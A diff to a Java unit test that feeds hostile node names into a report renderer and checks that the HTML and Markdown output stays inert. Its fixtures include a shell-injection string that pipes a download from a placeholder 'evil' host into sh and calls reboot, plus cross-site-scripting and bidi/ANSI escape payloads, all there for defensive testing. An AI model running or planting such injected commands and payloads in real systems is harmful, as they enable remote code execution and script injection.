@@ -2,6 +2,8 @@ package io.ghostmap.report;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import freemarker.template.TemplateModelException;
+import io.ghostmap.bundle.Printable;
 import io.ghostmap.bundle.UnreadableBundleException;
 import io.ghostmap.cli.Analysis;
 import io.ghostmap.diagnosis.Finding;
@@ -9,11 +11,19 @@ import io.ghostmap.diagnosis.RemedyStep;
 import io.ghostmap.diagnosis.Verdict;
 import io.ghostmap.support.NodeBundle;
 import io.ghostmap.support.PcapFile;
+import io.ghostmap.text.Term;
+import io.ghostmap.text.Term.NameKind;
+import io.ghostmap.text.Text;
 import java.nio.file.Path;
+import java.util.List;
 import org.jsoup.Jsoup;
+import org.jsoup.nodes.Attribute;
 import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
 
 /** A node whose every name is an attack on the page, the ticket, the terminal or the shell of the reader. */
 final class HostileValuesTest {
@@ -22,6 +32,15 @@ final class HostileValuesTest {
     private static final String DIRECTION = "\u202e4.3.2.1\u200f";
     private static final String SHELL = "/sys/fs/cgroup/x;curl${IFS}evil|sh;$(reboot)";
     private static final String CONNECT = "cgroup_inet4_connect";
+
+    private static final List<String> ATTACKS = List.of(
+            HTML,
+            MARKDOWN,
+            DIRECTION,
+            SHELL,
+            "\"><a href=javascript:alert(3)>x</a>",
+            "' onclick='alert(4)",
+            "\u001b[31m\u0000");
 
     @TempDir
     private Path folder;
@@ -84,6 +103,43 @@ final class HostileValuesTest {
                 .startsWith("default-src 'none'; style-src 'sha256-")
                 .doesNotContain("unsafe");
         assertThat(page.text()).contains("onerror=alert(1)");
+        LinksTest.assertWhole(page);
+    }
+
+    /** Whatever kind of term a value is: it comes out as that text, and as nothing that a reader's program would run. */
+    @ParameterizedTest
+    @EnumSource
+    void termIsNeitherMarkupNorADeadLink(NameKind kind) throws TemplateModelException {
+        for (String first : ATTACKS) {
+            for (String second : ATTACKS) {
+                assertHarmless(Term.name(kind, first + second));
+            }
+        }
+    }
+
+    private static void assertHarmless(Term term) throws TemplateModelException {
+        Text text = Text.of("before {} after", term);
+        Anchors anchors = new Anchors();
+        Anchors.Listed place = anchors.list(term);
+        HtmlText linked = new HtmlText(anchors);
+        HtmlText unlinked = new HtmlText(new Anchors());
+
+        for (VisibleHtml.Markup markup : List.of(linked.of(text), unlinked.of(text), linked.of(place))) {
+            Element body = Jsoup.parseBodyFragment(VisibleHtml.INSTANCE.getMarkupString(markup))
+                    .body();
+            assertThat(body.wholeText()).contains(Printable.whole(term.plain()));
+            assertThat(body.select("*").not("body, span, a, wbr")).isEmpty();
+            assertThat(body.select("a, span").stream()
+                            .flatMap(element -> element.attributes().asList().stream())
+                            .map(Attribute::getKey))
+                    .isSubsetOf("class", "href", "id");
+            assertThat(body.select("a").eachAttr("href"))
+                    .allMatch(href -> href.equals("#" + place.id().orElseThrow()));
+            assertThat(body.select("[id]").eachAttr("id")).allMatch(id -> id.matches("[a-z0-9.-]+"));
+        }
+        assertThat(MarkdownText.text(text).replaceAll("`[^`\n]*`", ""))
+                .doesNotContainPattern("(?<!\\\\)[<*|`\\[\\]]")
+                .doesNotContainPattern("[@#](?!\u200b)");
     }
 
     @Test
